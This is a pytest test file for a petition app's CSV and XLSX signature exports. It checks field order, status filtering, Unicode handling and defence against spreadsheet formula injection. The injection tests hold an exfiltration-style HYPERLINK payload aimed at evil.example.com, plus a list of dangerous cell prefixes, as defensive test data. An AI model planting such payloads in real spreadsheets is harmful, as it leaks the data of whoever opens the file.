"""The signatures as CSV and XLSX for coordinators: every field, private contact details and status
included, in the order of the letter; CSV in UTF-8 with a byte-order mark for Excel, XLSX that
openpyxl opens with a bold, frozen header; and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from signon.exports import spreadsheet
from signon.extensions import db as _db
from signon.models import Category, Signature, Statement
from signon.names import organization_key
from signon.services.errors import StatementNotFound
from signon.services.letters.exports import signatures_csv, signatures_xlsx
from tests import factories
from tests.spreadsheet_columns import COLUMNS

SLUG = "national-guard-letter"
SUBMITTED = datetime(2026, 3, 1, 14, 30, 5, tzinfo=UTC)
ALL_STATUSES = ("pending", "verified", "rejected", "withdrawn")
DANGEROUS_STARTS = ["=", "+", "-", "@", "\t", "\r"]
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --------------------------------------------------------------------------- helpers


def csv_text(statuses: tuple[str, ...] | None = None, slug: str = SLUG) -> str:
    return "".join(signatures_csv(slug, statuses))


def csv_rows(statuses: tuple[str, ...] | None = None, slug: str = SLUG) -> list[dict[str, str]]:
    text = csv_text(statuses, slug)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert all(list(row) == COLUMNS and None not in row for row in rows)
    return rows


def workbook_sheet(statuses: tuple[str, ...] | None = None, slug: str = SLUG) -> Worksheet:
    exported = signatures_xlsx(slug, statuses)
    return load_workbook(io.BytesIO(exported.content))["Signatures"]


def xlsx_rows(statuses: tuple[str, ...] | None = None, slug: str = SLUG) -> list[dict[str, str]]:
    sheet = workbook_sheet(statuses, slug)
    header, *rows = sheet.iter_rows(values_only=True)
    assert list(header) == COLUMNS
    return [dict(zip(COLUMNS, ("" if v is None else v for v in row), strict=True)) for row in rows]


def row_of(rows: list[dict[str, str]], signature: Signature) -> dict[str, str]:
    (row,) = [r for r in rows if r["id"] == str(signature.id)]
    return row


def both_formats(statuses: tuple[str, ...] | None = None) -> dict[str, list[dict[str, str]]]:
    return {"csv": csv_rows(statuses), "xlsx": xlsx_rows(statuses)}


def add_in_bulk(statement: Statement, count: int) -> None:
    """``count`` verified signatures in one INSERT, as bench/exports.py adds them."""
    categories = list(
        _db.session.execute(
            _db.select(Category.id).where(Category.statement_id == statement.id).order_by(Category.position)
        ).scalars()
    )
    moment = datetime.now(UTC)
    rows = []
    for i in range(count):
        name = f"Coalition for Human Rights No. {i:05d}"
        rows.append(
            {
                "statement_id": statement.id,
                "category_id": categories[i % len(categories)],
                "organization_name": name,
                "organization_key": organization_key(name),
                "city": "Ciudad de México", "region": "", "country": "México", "website": "", "comment": "",
                "contact_name": "Bulk Contact", "contact_role": "", "contact_email": f"c{i}@example.org",
                "authorized": True, "status": "verified", "created_at": moment, "updated_at": moment,
                "confirmed_at": moment, "verified_at": moment, "source_ip": "", "user_agent": "",
            }
        )  # fmt: skip
    _db.session.execute(_db.insert(Signature), rows)
    _db.session.commit()


@pytest.fixture
def statement(db) -> Statement:
    return factories.open_statement(SLUG)


@pytest.fixture
def full_signature(statement: Statement) -> Signature:
    return factories.verified_signature(
        statement,
        "Latin America Working Group",
        category="national",
        city="Washington",
        region="DC",
        country="United States",
        website="https://lawg.example.org",
        contact_name="Lisa Haugaard",
        contact_role="Co-Director",
        email="lisa@lawg.example.org",
        comment="We stand with the shelters.",
        phone="+1 202 555 0100",
        pinned=True,
        created_at=SUBMITTED,
        source_ip="203.0.113.7",
        user_agent="Mozilla/5.0 (X11; Linux x86_64)",
    )


# --------------------------------------------------------------------------- columns and fields


def test_columns_name_every_field_in_order() -> None:
    assert [name for name, _ in spreadsheet.COLUMNS] == COLUMNS


def test_csv_starts_with_a_byte_order_mark_and_the_header(statement: Statement) -> None:
    lines = list(signatures_csv(SLUG))
    assert lines[0] == "\ufeff" + ",".join(COLUMNS) + "\r\n"
    assert "".join(lines).count("\ufeff") == 1


def test_csv_streams_one_line_per_signature(statement: Statement) -> None:
    for name in ("Alpha Group", "Beta Group", "Gamma Group"):
        factories.verified_signature(statement, name, email=f"{name[:5].lower()}@example.org")
    lines = list(signatures_csv(SLUG))
    assert len(lines) == 4
    assert all(line.endswith("\r\n") for line in lines)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_field_is_exported_private_details_included(full_signature: Signature, fmt: str) -> None:
    row = row_of(both_formats()[fmt], full_signature)
    assert row["organization"] == "Latin America Working Group"
    assert row["category"] == "National"
    assert (row["city"], row["region"], row["country"]) == ("Washington", "DC", "United States")
    assert row["website"] == "https://lawg.example.org"
    assert (row["contact_name"], row["role"], row["email"]) == ("Lisa Haugaard", "Co-Director", "lisa@lawg.example.org")
    assert row["authorized"] == "yes"
    assert row["comment"] == "We stand with the shelters."
    assert row["status"] == "verified"
    assert row["phone"] == "'+1 202 555 0100"  # a leading + is a formula to a spreadsheet
    assert (row["individual"], row["hidden"], row["pinned"]) == ("no", "no", "yes")
    for column in ("submitted_at", "confirmed_at", "verified_at"):
        assert datetime.fromisoformat(row[column]) == SUBMITTED
    assert row["ip"] == "203.0.113.7"
    assert row["user_agent"] == "Mozilla/5.0 (X11; Linux x86_64)"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_pending_signature_has_no_confirmation_dates(statement: Statement, fmt: str) -> None:
    pending = factories.pending_signature(statement, "Kino Border Initiative")
    row = row_of(both_formats()[fmt], pending)
    assert row["status"] == "pending"
    assert row["confirmed_at"] == row["verified_at"] == ""


def test_a_statement_without_signatures_exports_only_the_header(statement: Statement) -> None:
    assert csv_text() == "\ufeff" + ",".join(COLUMNS) + "\r\n"
    sheet = workbook_sheet()
    assert sheet.max_row == 1
    assert [c.value for c in sheet[1]] == COLUMNS


def test_an_unknown_statement_fails_before_the_first_line(db) -> None:
    with pytest.raises(StatementNotFound):
        signatures_csv("no-such-letter")
    with pytest.raises(StatementNotFound):
        signatures_xlsx("no-such-letter")


def test_only_the_signatures_of_the_statement_are_exported(statement: Statement) -> None:
    ours = factories.verified_signature(statement, "Our Signatory")
    other = factories.open_statement("other-team-letter")
    factories.verified_signature(other, "Their Signatory", email="theirs@example.org")
    for rows in both_formats().values():
        assert [r["id"] for r in rows] == [str(ours.id)]


# --------------------------------------------------------------------------- statuses and order


@pytest.fixture
def one_of_each_status(statement: Statement) -> dict[str, Signature]:
    return {
        status: factories.signature(statement, f"{status.title()} Organization", status=status, email=f"{status}@x.org")
        for status in ALL_STATUSES
    }


@pytest.mark.parametrize(
    "statuses",
    [None, ALL_STATUSES, ("verified",), ("pending",), ("verified", "pending"), ("rejected", "withdrawn")],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_statuses_choose_which_signatures_are_exported(
    one_of_each_status: dict[str, Signature], statuses: tuple[str, ...] | None, fmt: str
) -> None:
    rows = xlsx_rows(statuses) if fmt == "xlsx" else csv_rows(statuses)
    wanted = statuses or ALL_STATUSES
    assert {r["id"]: r["status"] for r in rows} == {str(one_of_each_status[status].id): status for status in wanted}


def test_rows_follow_the_letter_category_by_category_then_by_name(statement: Statement) -> None:
    for name, category in [
        ("the Zeta Alliance", "national"),
        ("Ámbito Migrante", "international"),
        ("beta Network", "national"),
        ("Zapata Collective", "state-and-local"),
        ("Alpha Group", "national"),
        ("Ámbar Center", "national"),
        ("ALIANZA Sur", "international"),
        ("Acción Local", "state-and-local"),
    ]:
        factories.verified_signature(statement, name, category=category, email=f"{len(name)}{name[:3]}@x.org")
    expected = [
        ("Alpha Group", "National"),
        ("Ámbar Center", "National"),
        ("beta Network", "National"),
        ("the Zeta Alliance", "National"),
        ("Acción Local", "State and Local"),
        ("Zapata Collective", "State and Local"),
        ("ALIANZA Sur", "International"),
        ("Ámbito Migrante", "International"),
    ]
    for rows in both_formats().values():
        assert [(r["organization"], r["category"]) for r in rows] == expected


def test_category_order_is_the_statements_not_the_alphabet(db) -> None:
    s = factories.open_statement(SLUG, categories=("Zimbabwe", "Argentina"))
    factories.verified_signature(s, "Argentine Org", category="argentina", email="a@x.org")
    factories.verified_signature(s, "Zimbabwean Org", category="zimbabwe", email="z@x.org")
    for rows in both_formats().values():
        assert [r["category"] for r in rows] == ["Zimbabwe", "Argentina"]


# --------------------------------------------------------------------------- text round trip


TRICKY = {
    "name": 'Centro de Derechos Humanos "Fray Matías de Córdova", A.C.\nSegunda línea',
    "city": "Tapachula, Chiapas",
    "country": "México",
    "contact_name": "Zoë Ñúñez 李小龍",
    "contact_role": "Coordinadora; «derechos»",
    "comment": 'Line one, with a comma.\nLine two with "quotes" and an emoji ✊🏽.\r\nLine three.',
}


def test_csv_round_trips_commas_quotes_line_breaks_and_any_script(statement: Statement) -> None:
    cjk = factories.verified_signature(
        statement, "日本国際人権協会", city="東京", region="", country="日本", email="j@x.org"
    )
    tricky = factories.verified_signature(
        statement,
        TRICKY["name"],
        city=TRICKY["city"],
        country=TRICKY["country"],
        contact_name=TRICKY["contact_name"],
        contact_role=TRICKY["contact_role"],
        comment=TRICKY["comment"],
        email="zoe@fraymatias.example.org",
    )
    rows = csv_rows()
    assert len(rows) == 2
    row = row_of(rows, tricky)
    assert row["organization"] == TRICKY["name"]
    assert (row["city"], row["country"]) == (TRICKY["city"], TRICKY["country"])
    assert (row["contact_name"], row["role"]) == (TRICKY["contact_name"], TRICKY["contact_role"])
    assert row["comment"] == TRICKY["comment"]
    assert (row_of(rows, cjk)["organization"], row_of(rows, cjk)["city"]) == ("日本国際人権協会", "東京")


def test_csv_is_utf8_with_one_byte_order_mark(statement: Statement) -> None:
    factories.verified_signature(statement, "Ámbito Migrante", country="México")
    raw = csv_text().encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    assert "Ámbito Migrante".encode() in raw


def test_xlsx_keeps_accents_cjk_and_line_breaks(statement: Statement) -> None:
    tricky = factories.verified_signature(
        statement, TRICKY["name"], contact_name=TRICKY["contact_name"], comment="Una línea.\nOtra, 日本語."
    )
    row = row_of(xlsx_rows(), tricky)
    assert row["organization"] == TRICKY["name"]
    assert row["contact_name"] == TRICKY["contact_name"]
    assert row["comment"] == "Una línea.\nOtra, 日本語."


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_cell_that_starts_like_a_formula_is_neutralised(statement: Statement, start: str, fmt: str) -> None:
    value = start + 'HYPERLINK("https://evil.example.com/?x="&A1,"Click")'
    signature = factories.verified_signature(
        statement,
        value,
        city=value,
        region=value,
        country=value,
        website=value,
        contact_name=value,
        contact_role=value,
        comment=value,
        user_agent=value,
    )
    row = row_of(both_formats()[fmt], signature)
    for column in (
        "organization",
        "city",
        "region",
        "country",
        "website",
        "contact_name",
        "role",
        "comment",
        "user_agent",
    ):
        assert row[column] == "'" + value, column


@pytest.mark.parametrize("value", ["Ámbito Migrante", "1+1 Coalition", "ACLU = rights", "'quoted already", "(-5)"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_cell_that_does_not_start_like_a_formula_is_left_as_it_is(statement: Statement, value: str, fmt: str) -> None:
    signature = factories.verified_signature(statement, "Safe Organization", comment=value)
    assert row_of(both_formats()[fmt], signature)["comment"] == value


def test_neutralising_leaves_the_stored_signature_unchanged(statement: Statement) -> None:
    signature = factories.verified_signature(statement, "=Formula Org")
    csv_rows()
    xlsx_rows()
    _db.session.expire_all()
    assert _db.session.get(Signature, signature.id).organization_name == "=Formula Org"


def test_every_xlsx_cell_is_a_string_never_a_formula(statement: Statement) -> None:
    for i, start in enumerate(DANGEROUS_STARTS):
        factories.verified_signature(
            statement, f"{start}SUM(A1:A9) Org {i}", comment=f"{start}1+1", email=f"{i}@x.org", source_ip="=1+1"
        )
    sheet = workbook_sheet()
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == (len(DANGEROUS_STARTS) + 1) * len(COLUMNS)
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if cell.value is not None:  # an empty field is an empty cell
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert not cell.value.startswith(tuple(DANGEROUS_STARTS)), (cell.coordinate, cell.value)
    assert sum(cell.value is not None for cell in cells) > len(cells) // 2
    # Even the id and the dates are text: nothing is left for Excel to interpret.
    assert isinstance(sheet["A2"].value, str)


# --------------------------------------------------------------------------- the workbook


def test_xlsx_is_a_workbook_with_one_sheet_named_signatures(full_signature: Signature) -> None:
    exported = signatures_xlsx(SLUG)
    assert exported.mimetype == XLSX_MIMETYPE
    assert exported.filename == f"{SLUG}-signatures.xlsx"
    assert exported.content.startswith(b"PK")
    workbook = load_workbook(io.BytesIO(exported.content))
    assert workbook.sheetnames == ["Signatures"]


def test_xlsx_header_is_bold_and_frozen(full_signature: Signature) -> None:
    sheet = workbook_sheet()
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == COLUMNS
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])


def test_xlsx_columns_are_wide_enough_to_read(full_signature: Signature) -> None:
    sheet = workbook_sheet()
    assert sheet.column_dimensions["B"].width == spreadsheet.WIDTHS["organization"]
    assert sheet.column_dimensions["D"].width == spreadsheet.DEFAULT_WIDTH


# Not NUL: PostgreSQL refuses to store it, so no signature can hold one.
@pytest.mark.parametrize("control", ["\x01", "\x08", "\x0b", "\x1f"])
def test_a_control_character_does_not_break_the_xlsx(statement: Statement, control: str) -> None:
    signature = factories.verified_signature(
        statement, f"Broken{control}Name Network", comment=f"pasted{control}from Word"
    )
    row = row_of(xlsx_rows(), signature)
    # XML 1.0 cannot hold the character: it shows as a replacement character, the rest as it is.
    assert row["organization"] == "Broken\ufffdName Network"
    assert row["comment"] == "pasted\ufffdfrom Word"
    # The CSV keeps the name as it was stored.
    assert row_of(csv_rows(), signature)["organization"] == f"Broken{control}Name Network"


# --------------------------------------------------------------------------- many signatures


def test_two_thousand_signatures_export_to_csv_and_xlsx(statement: Statement) -> None:
    add_in_bulk(statement, 2000)
    rows = csv_rows(("verified",))
    assert len(rows) == 2000
    assert len({r["id"] for r in rows}) == 2000
    categories = [r["category"] for r in rows]
    assert categories == sorted(categories, key=["National", "State and Local", "International"].index)
    assert rows[0]["organization"] == "Coalition for Human Rights No. 00000"

    exported = signatures_xlsx(SLUG, ("verified",))
    sheet = load_workbook(io.BytesIO(exported.content), read_only=True)["Signatures"]
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 2001
    assert [row[1] for row in values[1:]] == [r["organization"] for r in rows]
